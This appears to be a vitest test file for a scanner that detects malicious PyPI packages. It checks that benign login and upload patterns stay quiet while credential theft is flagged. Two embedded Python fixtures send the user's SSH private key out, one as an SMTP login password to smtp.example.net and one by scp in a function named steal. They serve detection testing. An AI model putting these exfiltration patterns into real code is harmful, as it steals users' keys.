// Legitimate look-alikes of the red-team shapes (fixtures/pypi/benign/*): the general rule
// that keeps each one quiet.
import { describe, expect, it } from "vitest";
import { evaluateFacts } from "../../../src/rules/evaluate.js";
import { analyze, flowsOf, sigs } from "./helpers.js";

const PKG = { ecosystem: "pypi" as const, name: "pkg" };

describe("red-team precision", () => {
  it("a prompted password or secret variable given to login() authenticates, it is not sent as data", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import getpass, os, smtplib, ftplib
        def mail(msg):
            with smtplib.SMTP_SSL("smtp.gmail.com", 465) as s:
                s.login("me", getpass.getpass("Password: "))
                s.send_message(msg)
        def put(host, fh):
            ftp = ftplib.FTP_TLS(host)
            ftp.login("me", os.environ["FTP_PASSWORD"])
            ftp.storbinary("STOR x", fh)
      `,
    });
    expect(facts.flows.length).toBeGreaterThan(0);
    expect(facts.flows.map((f) => f.use)).toEqual(facts.flows.map(() => "auth"));
    expect(evaluateFacts(facts, PKG, sigs())).toEqual([]);
  });

  it("a key file given to login() is the password of a server that did not issue it: exfiltration", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, smtplib
        s = smtplib.SMTP("smtp.example.net")
        s.login("x", open(os.path.expanduser("~/.ssh/id_rsa")).read())
        s.sendmail("a@x", ["b@x"], "hello")
      `,
    });
    expect(flowsOf(facts)).toEqual([
      "ssh-key@pkg/__init__.py:3 -> mail@pkg/__init__.py:3 smtp.example.net [import]",
      "ssh-key@pkg/__init__.py:3 -> mail@pkg/__init__.py:4 smtp.example.net [import]",
    ]);
    expect(facts.flows.map((f) => f.use)).toEqual(["auth", "auth"]);
    expect(evaluateFacts(facts, PKG, sigs()).map((f) => `${f.ruleId} ${f.severity} ${f.location.line}`)).toEqual([
      "credential-exfiltration critical 3",
      "credential-exfiltration critical 4",
    ]);
  });

  it("the identity file of scp/ssh (-i key) is not data, the uploaded file is", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, subprocess
        KEY = os.path.expanduser("~/.ssh/id_ed25519")
        def upload(artifact, host, key=KEY):
            subprocess.run(["scp", "-i", key, artifact, f"deploy@{host}:/srv/"], check=True)
        def steal(host):
            subprocess.run(["scp", "-i", KEY, KEY, f"x@{host}:/tmp/"], check=True)
      `,
    });
    // The destination is the remote host (unknown here), never the login name before `@`.
    expect(flowsOf(facts)).toEqual(["ssh-key@pkg/__init__.py:6 -> shell@pkg/__init__.py:6 ? [call]"]);
  });

  it("argparse defaults naming a credential path do not taint every parsed argument", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import argparse, os, requests
        def main():
            p = argparse.ArgumentParser()
            p.add_argument("--key", default=os.path.expanduser("~/.ssh/id_rsa"))
            p.add_argument("url")
            args = p.parse_args()
            requests.get(args.url)
      `,
    });
    expect(flowsOf(facts)).toEqual([]);
  });

  it("an in-tree backend that only builds reports nothing; hooks of an installed backend are not ours", async () => {
    const facts = await analyze({
      "pyproject.toml": `
        [build-system]
        requires = ["setuptools"]
        build-backend = "setuptools.build_meta"
      `,
      "tools/build_wheel.py": `
        import requests
        def build_wheel(d):
            requests.get("https://example.net/x")
      `,
    });
    expect(facts.sinks.map((s) => s.trigger)).toEqual(["call"]);
  });
});
